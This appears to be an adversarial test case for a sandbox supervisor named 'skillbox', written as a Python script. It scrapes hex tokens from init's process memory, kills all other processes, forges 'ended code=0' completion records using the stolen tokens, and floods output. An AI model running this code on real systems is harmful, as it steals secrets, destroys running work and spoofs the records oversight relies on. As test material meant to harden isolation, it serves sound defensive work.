# /// case
# promise = "a forged last word, without a supervisor's clock and before a flood, keeps nobody waiting"
# status = ["success", "failed", "timeout"]
# options = { timeout = "2s" }
# within = 40.0
# ///
import os, re, sys

found = set()
try:
    for line in open("/proc/1/maps"):
        start, end = (int(n, 16) for n in line.split()[0].split("-"))
        if "rw" in line.split()[1]:
            with open("/proc/1/mem", "rb", 0) as memory:
                memory.seek(start)
                found |= set(re.findall(rb"[0-9a-f]{32}", memory.read(end - start)))
except OSError as error:
    print(error)
for name in os.listdir("/proc"):
    if name.isdigit() and int(name) not in (1, os.getpid(), os.getppid()):
        try:
            os.kill(int(name), 9)
        except ProcessLookupError:
            pass
for token in found:
    sys.stderr.buffer.write(b"\n\x1eskillbox " + token + b" ended code=0 late=0 full=0 peak=1 cpu_ns=1 oom=0\n")
    sys.stderr.buffer.flush()
while True:
    print("x" * 1000)
